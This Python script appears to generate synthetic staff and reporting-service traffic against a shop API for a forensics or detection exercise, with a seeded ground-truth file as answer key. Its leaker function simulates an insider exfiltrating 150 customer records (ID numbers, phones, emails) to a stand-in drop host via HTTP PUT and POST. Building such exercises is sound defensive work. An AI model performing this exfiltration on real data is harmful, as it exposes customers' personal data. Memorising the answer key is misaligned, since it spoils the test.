#!/usr/bin/env python3
"""Staff with browsers (cookie login) and the reporting service: http.client from CPython.

usage: staff.py PHASE, PHASE `early` (before the capture) or `main`. One of the staff copies what is read to a file
drop outside; who does, and which drop it is, the seed decides, and only the truth file says so."""
import base64
import csv
import hashlib
import http.client
import io
import json
import os
import random
import sys
import threading
import time
import urllib.parse

from common import PEOPLE, truth

GATE = ("10.20.0.2", 80)
LOGINS = json.load(open(os.environ["LOGINS"]))
SEED = int(os.environ.get("SEED", "7"))
IDS = list(PEOPLE)
DROP = os.environ["DROP"]
STAFF = {"chen.min": "10.20.5.11", "li.bo": "10.20.5.12", "zhao.yan": "10.20.5.13", "sun.li": "10.20.5.14", "wu.tao": "10.20.5.66"}


class Browser:
    """One person at one address."""

    def __init__(self, name, address):
        self.name, self.address = name, address
        self.http = http.client.HTTPConnection(*GATE, source_address=(address, 0), timeout=20)
        self.cookie = None
        self.random = random.Random(f"{SEED}/{name}")

    def ask(self, method, path, body=None, headers=None):
        h = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", "Host": "api.shop.example", "Accept": "application/json", **(headers or {})}
        if self.random.random() < 0.5:
            h["Accept-Encoding"] = "gzip"
        if self.cookie:
            h["Cookie"] = f"theme=light; sid={self.cookie}"
        self.http.request(method, path, body, h)
        r = self.http.getresponse()
        data = r.read()
        for c in r.msg.get_all("Set-Cookie") or []:
            self.cookie = c.split(";")[0].partition("=")[2] or None
        truth(f"client-{self.name}", side="client", method=method, host="api.shop.example", uri=path, status=r.status,
              local=list(self.http.sock.getsockname()) if self.http.sock else None, account=self.name)
        time.sleep(self.random.uniform(0.0, 0.02))
        return r.status

    def login(self):
        form = {"username": self.name, "password": LOGINS[self.name]["password"]}
        if self.random.random() < 0.4:  # a slip of the finger first
            self.ask("POST", "/login", urllib.parse.urlencode({**form, "password": "Wrong-1"}), {"Content-Type": "application/x-www-form-urlencoded"})
        self.ask("POST", "/login", urllib.parse.urlencode(form), {"Content-Type": "application/x-www-form-urlencoded"})
        self.ask("GET", "/home")

    def ordinary(self, n):
        for _ in range(n):
            what = self.random.random()
            if what < 0.3:
                self.ask("GET", f"/api/customers?page={self.random.randint(1, 60)}&size=20")
            elif what < 0.55:
                self.ask("GET", f"/api/customers/{self.random.choice(IDS)}")
            elif what < 0.8:
                self.ask("GET", f"/api/orders/SO2026{self.random.randint(0, 2399):08}")
            elif what < 0.9:
                p = PEOPLE[self.random.choice(IDS)]
                self.ask("POST", "/api/search", json.dumps({"mobile": p["mobile"]}), {"Content-Type": "application/json"})
            else:
                self.ask("GET", f"/api/customers/{self.random.choice(IDS)}/cards")

    def logout(self):
        self.ask("POST", "/logout")


def heavy(b, n):
    """An honest heavy reader: a call centre's day."""
    b.login()
    for i in b.random.sample(IDS, n):
        b.ask("GET", f"/api/customers/{i}")
        if b.random.random() < 0.1:
            b.ordinary(1)
    b.logout()


def leaker(b):
    """Reads 190 customers one by one between ordinary work and takes 150 of them out in three ways."""
    b.login()
    read = b.random.sample(IDS, 190)
    for n, i in enumerate(read):
        b.ask("GET", f"/api/customers/{i}")
        if n % 9 == 4:
            b.ordinary(1)
    taken = read[:]
    b.random.shuffle(taken)
    taken = [PEOPLE[i] for i in taken[:150]]
    text = io.StringIO()
    w = csv.writer(text)
    w.writerow(["name", "idCard", "mobile", "email"])
    w.writerows([p["name"], p["idCard"], p["mobile"], p["email"]] for p in taken)
    open(f"{os.environ['TRUTH']}/leaked-rows.csv", "w").write(text.getvalue())
    drop = http.client.HTTPConnection(DROP, 80, source_address=(b.address, 0), timeout=20)
    proof = {"n": len(taken), "sample": base64.b64encode(taken[0]["idCard"].encode()).decode(), "keys": [hashlib.sha256(p["idCard"].encode()).hexdigest() for p in taken[:20]]}
    for method, path, body, kind in [
        ("PUT", "/up/notes.csv", text.getvalue().encode(), "text/csv"),
        ("POST", "/note", json.dumps(proof).encode(), "application/json"),
    ]:
        drop.request(method, path, body, {"Host": "files.drop.example", "User-Agent": "python-requests/2.31", "Content-Type": kind})
        status = drop.getresponse()
        status.read()
        truth(f"client-{b.name}", side="client", method=method, host="files.drop.example", uri=path, status=status.status, account=None, exit=True, to=DROP, customers=[p["id"] for p in taken])
    b.ordinary(6)
    b.logout()


def report(name, address):
    """The reporting service: client credentials, then every page."""
    b = Browser(name, address)
    agent = {"User-Agent": "report-job/2.4"}
    h = http.client.HTTPConnection(*GATE, source_address=(address, 0), timeout=20)
    form = urllib.parse.urlencode({"grant_type": "client_credentials", "client_id": name, "client_secret": LOGINS[name]["password"]})
    h.request("POST", "/oauth/token", form, {"Host": "api.shop.example", "Content-Type": "application/x-www-form-urlencoded", **agent})
    token = json.loads(h.getresponse().read())["access_token"]
    truth(f"client-{name}", side="client", method="POST", host="api.shop.example", uri="/oauth/token", status=200, account=name)
    for page in range(1, 37):
        b.ask("GET", f"/api/reports/customers?page={page}&size=25", headers={"Authorization": f"Bearer {token}", **agent})
    b.ask("POST", "/api/exports", json.dumps({"name": "weekly", "ids": b.random.sample(IDS, 60)}), {"Authorization": f"Bearer {token}", "Content-Type": "application/json", **agent})


def run(*jobs):
    threads = [threading.Thread(target=j[0], args=j[1:]) for j in jobs]
    for t in threads:
        t.start()
    for t in threads:
        t.join()


def day(b, n):
    b.login()
    b.ordinary(n)
    b.logout()


def browser(name):
    return Browser(name, STAFF[name])


if sys.argv[1] == "early":
    run((day, browser("chen.min"), 60), (day, browser("li.bo"), 60), (day, browser("zhao.yan"), 40))
else:
    # Seed 7 is the demo; another seed gives everybody another's part.
    names = list(STAFF)
    turn = lambda n: browser(names[(names.index(n) + SEED - 7) % len(names)])
    run(
        (day, turn("chen.min"), 45),
        (day, turn("li.bo"), 45),
        (heavy, turn("sun.li"), 260),
        (heavy, turn("zhao.yan"), 180),
        (leaker, turn("wu.tao")),
        (report, "svc-report", "10.20.6.20"),
    )
